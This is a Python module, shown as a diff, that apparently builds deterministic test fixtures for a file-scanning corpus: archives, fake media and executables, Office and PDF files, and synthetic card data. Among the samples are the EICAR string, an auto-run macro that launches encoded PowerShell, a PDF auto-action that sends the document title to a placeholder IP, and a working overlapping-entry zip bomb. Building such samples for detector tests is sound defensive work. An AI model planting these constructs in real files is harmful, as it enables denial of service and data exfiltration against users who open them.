@@ -1,0 +1,276 @@
+"""Deterministic file and container builders for the corpus (every byte from a seeded ``random.Random``).
+
+Nothing here reads the clock: archive members carry a fixed date, gzip a zero mtime.
+"""
+
+from __future__ import annotations
+
+import binascii
+import gzip
+import io
+import lzma
+import random
+import struct
+import tarfile
+import zipfile
+
+EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
+FIXED_DATE = (2026, 11, 2, 9, 30, 0)
+FIRST = ("Ana", "Bruno", "Chen", "Dara", "Emil", "Farah", "Goran", "Hana", "Ivo", "Jun", "Kemal", "Lena")
+LAST = ("Silva", "Novak", "Okafor", "Tanaka", "Larsen", "Haddad", "Moreau", "Kowalski", "Rossi", "Berg")
+
+
+# ------------------------------------------------------------------------------------------ containers
+
+
+def zip_of(members: list[tuple[str, bytes]], *, stored: bool = False) -> bytes:
+    buf = io.BytesIO()
+    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
+    with zipfile.ZipFile(buf, "w", method) as zf:
+        for name, data in members:
+            info = zipfile.ZipInfo(name, FIXED_DATE)
+            info.compress_type = method
+            zf.writestr(info, data)
+    return buf.getvalue()
+
+
+def gzip_of(data: bytes, name: str = "") -> bytes:
+    buf = io.BytesIO()
+    with gzip.GzipFile(filename=name, mode="wb", fileobj=buf, mtime=0) as gz:
+        gz.write(data)
+    return buf.getvalue()
+
+
+def xz_of(data: bytes) -> bytes:
+    return lzma.compress(data, format=lzma.FORMAT_XZ)
+
+
+def tar_gz_of(members: list[tuple[str, bytes]]) -> bytes:
+    raw = io.BytesIO()
+    with tarfile.open(fileobj=raw, mode="w") as tf:
+        for name, data in members:
+            info = tarfile.TarInfo(name)
+            info.size, info.mtime, info.mode = len(data), 1793000000, 0o644
+            tf.addfile(info, io.BytesIO(data))
+    return gzip_of(raw.getvalue())
+
+
+def _7z_number(n: int) -> bytes:
+    """7-Zip's variable-length UINT64 (the first byte's high bits count the little-endian bytes after it)."""
+    if n < 0x80:
+        return bytes([n])
+    if n < 0x4000:
+        return bytes([0x80 | (n >> 8), n & 0xFF])
+    if n < 0x200000:
+        return bytes([0xC0 | (n >> 16)]) + (n & 0xFFFF).to_bytes(2, "little")
+    if n < 0x10000000:
+        return bytes([0xE0 | (n >> 24)]) + (n & 0xFFFFFF).to_bytes(3, "little")
+    return b"\xff" + n.to_bytes(8, "little")
+
+
+def sevenz_of(name: str, data: bytes) -> bytes:
+    """A one-file 7z archive, LZMA-compressed (LZMA1: LZMA2 would store a small file uncompressed, and
+    its content would be visible in the raw bytes)."""
+    dict_size = 1 << 16
+    packed = lzma.compress(
+        data, format=lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA1, "dict_size": dict_size}]
+    )
+    n = _7z_number
+    crc = struct.pack("<I", binascii.crc32(data))
+    header = (
+        b"\x01"  # kHeader
+        + b"\x04"  # kMainStreamsInfo
+        + b"\x06" + n(0) + n(1) + b"\x09" + n(len(packed)) + b"\x00"  # kPackInfo
+        + b"\x07\x0b" + n(1) + b"\x00"  # kUnPackInfo, kFolder, 1 folder, not external
+        + n(1) + b"\x23\x03\x01\x01" + n(5) + bytes([0x5D]) + struct.pack("<I", dict_size)  # LZMA
+        + b"\x0c" + n(len(data))  # kCodersUnPackSize
+        + b"\x0a\x01" + crc + b"\x00"  # kCRC of the folder's output, then kEnd of UnPackInfo
+        + b"\x08\x00"  # kSubStreamsInfo: one stream per folder
+        + b"\x00"  # kEnd of MainStreamsInfo
+        + b"\x05" + n(1)  # kFilesInfo, one file
+        + b"\x11" + n(1 + len(name.encode("utf-16-le")) + 2) + b"\x00" + name.encode("utf-16-le") + b"\0\0"
+        + b"\x00"  # kEnd of FilesInfo
+        + b"\x00"  # kEnd of Header
+    )  # fmt: skip
+    tail = struct.pack("<QQI", len(packed), len(header), binascii.crc32(header))
+    start = b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", binascii.crc32(tail)) + tail
+    return start + packed + header
+
+
+# ------------------------------------------------------------------------------------------ documents
+
+
+def jpeg(rng: random.Random, size: int) -> bytes:
+    head = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x48\x00\x48\x00\x00"
+    head += b"\xff\xdb\x00\x43\x00" + bytes(rng.randrange(1, 64) for _ in range(64))
+    head += b"\xff\xc0\x00\x11\x08\x04\x38\x07\x80\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01\xff\xda\x00\x0c"
+    body = rng.randbytes(max(0, size - len(head) - 2)).replace(b"\xff", b"\xfe")
+    return head + body + b"\xff\xd9"
+
+
+def mp4(rng: random.Random, size: int) -> bytes:
+    ftyp = struct.pack(">I", 24) + b"ftypisom" + struct.pack(">I", 0x200) + b"isomiso2"
+    moov = struct.pack(">I", 16) + b"moov" + struct.pack(">I", 8) + b"mvhd"
+    mdat_len = max(8, size - len(ftyp) - len(moov))
+    return ftyp + moov + struct.pack(">I", mdat_len) + b"mdat" + rng.randbytes(mdat_len - 8)
+
+
+def mp3(rng: random.Random, size: int) -> bytes:
+    id3 = b"ID3\x04\x00\x00\x00\x00\x00\x00"
+    frames = bytearray()
+    while len(frames) < size - len(id3):
+        frames += b"\xff\xfb\x90\x64" + rng.randbytes(413)
+    return id3 + bytes(frames[: size - len(id3)])
+
+
+def pe(rng: random.Random, size: int = 40_000) -> bytes:
+    """A Windows executable's headers (DOS stub, PE signature, COFF, PE32+ optional header) and a body."""
+    dos = bytearray(b"MZ" + b"\x90\x00" * 29 + b"\x00\x00")
+    dos += b"\x00" * (0x3C - len(dos)) + struct.pack("<I", 0x80)
+    dos += b"This program cannot be run in DOS mode.\r\r\n$".ljust(0x80 - len(dos), b"\x00")
+    coff = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x8664, 3, 1793000000, 0, 0, 0xF0, 0x22)
+    optional = struct.pack("<HBB", 0x20B, 14, 0) + rng.randbytes(0xF0 - 4)
+    body = rng.randbytes(max(0, size - len(dos) - len(coff) - len(optional)))
+    return bytes(dos) + coff + optional + body
+
+
+CONTENT_TYPES = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+    '<Default Extension="xml" ContentType="application/xml"/>{extra}'
+    '<Override PartName="/{main}" ContentType="{ctype}"/></Types>'
+)
+
+
+def office(kind: str, text: str, *, vba: bool = False) -> bytes:
+    """A minimal OOXML package (docx, xlsx, pptx); ``vba`` adds a vbaProject.bin (an OLE file with a macro
+    project's stream names), as Word keeps macros."""
+    main, ctype, body = {
+        "docx": (
+            "word/document.xml",
+            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
+            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+            f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>",
+        ),
+        "xlsx": (
+            "xl/workbook.xml",
+            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
+            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+            f'<sheets><sheet name="{text[:30]}" sheetId="1"/></sheets></workbook>',
+        ),
+        "pptx": (
+            "ppt/presentation.xml",
+            "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
+            '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>',
+        ),
+    }[kind]
+    extra = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' if vba else ""
+    rels = (
+        '<?xml version="1.0" encoding="UTF-8"?><Relationships '
+        'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
+        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
+        f'Target="{main}"/></Relationships>'
+    )
+    members = [
+        ("[Content_Types].xml", CONTENT_TYPES.format(extra=extra, main=main, ctype=ctype).encode()),
+        ("_rels/.rels", rels.encode()),
+        (main, body.encode()),
+    ]
+    if vba:
+        ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff\x09\x00"
+        ole = ole.ljust(512, b"\x00")
+        names = b"".join(
+            s.encode("utf-16-le").ljust(64, b"\x00") for s in ("Root Entry", "VBA", "_VBA_PROJECT")
+        )
+        source = (
+            b'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n Shell "powershell -enc ..."\r\nEnd Sub'
+        )
+        members.append(("word/vbaProject.bin", ole + names.ljust(512, b"\x00") + source))
+    return zip_of(members)
+
+
+def pdf(text: str, *, javascript: bool = False) -> bytes:
+    objects = [
+        "<< /Type /Catalog /Pages 2 0 R"
+        + (" /OpenAction 4 0 R /Names << /JavaScript 5 0 R >>" if javascript else "")
+        + " >>",
+        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
+    ]
+    if javascript:
+        objects += [
+            "<< /Type /Action /S /JavaScript /JS (app.launchURL\\('http://203.0.113.9/p?c='+this.info.Title\\);) >>",
+            "<< /Names [(init) 4 0 R] >>",
+        ]
+    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = []
+    for i, obj in enumerate(objects, 1):
+        offsets.append(len(out))
+        out += f"{i} 0 obj\n{obj}\nendobj\n".encode()
+    out += f"% {text}\n".encode()
+    xref = len(out)
+    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
+    out += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
+    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
+    return bytes(out)
+
+
+# ------------------------------------------------------------------------------------------ personal data
+
+
+def luhn_complete(prefix: str, length: int, rng: random.Random) -> str:
+    digits = prefix + "".join(str(rng.randrange(10)) for _ in range(length - len(prefix) - 1))
+    total = 0
+    for i, ch in enumerate(reversed(digits)):
+        d = int(ch)
+        if i % 2 == 0:
+            d = d * 2 - 9 if d * 2 > 9 else d * 2
+        total += d
+    return digits + str((10 - total % 10) % 10)
+
+
+def card_numbers(rng: random.Random, n: int) -> list[str]:
+    issuers = (("4", 16), ("51", 16), ("55", 16), ("2221", 16), ("37", 15), ("6011", 16))
+    return [luhn_complete(*issuers[i % len(issuers)], rng) for i in range(n)]
+
+
+def person(rng: random.Random) -> str:
+    return f"{rng.choice(FIRST)} {rng.choice(LAST)}"
+
+
+def cards_csv(rng: random.Random, n: int = 40) -> bytes:
+    rows = ["name,card_number,expiry,cvv"]
+    for card in card_numbers(rng, n):
+        rows.append(
+            f"{person(rng)},{card},{rng.randrange(1, 13):02d}/{rng.randrange(27, 32)},{rng.randrange(100, 999)}"
+        )
+    return ("\n".join(rows) + "\n").encode()
+
+
+def overlapping_zip_bomb(kernel_bytes: int = 8 << 20, entries: int = 600) -> bytes:
+    """One deflated kernel of zeros and ``entries`` central-directory records all pointing at it
+    (Fifield's overlapping-files construction, in its simplest form): ~5 GB claimed from ~8 KB."""
+    name = b"data.bin"
+    comp = zlib_raw(b"\x00" * kernel_bytes)
+    crc = binascii.crc32(b"\x00" * kernel_bytes)
+    local = struct.pack(
+        "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(comp), kernel_bytes, len(name), 0
+    )
+    data = local + name + comp
+    central = b"".join(
+        struct.pack(
+            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(comp), kernel_bytes, len(name),
+            0, 0, 0, 0, 0, 0,
+        ) + name
+        for _ in range(entries)
+    )  # fmt: skip
+    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, entries, entries, len(central), len(data), 0)
+    return data + central + end
+
+
+def zlib_raw(data: bytes) -> bytes:
+    import zlib
+
+    c = zlib.compressobj(9, zlib.DEFLATED, -15)
+    return c.compress(data) + c.flush()
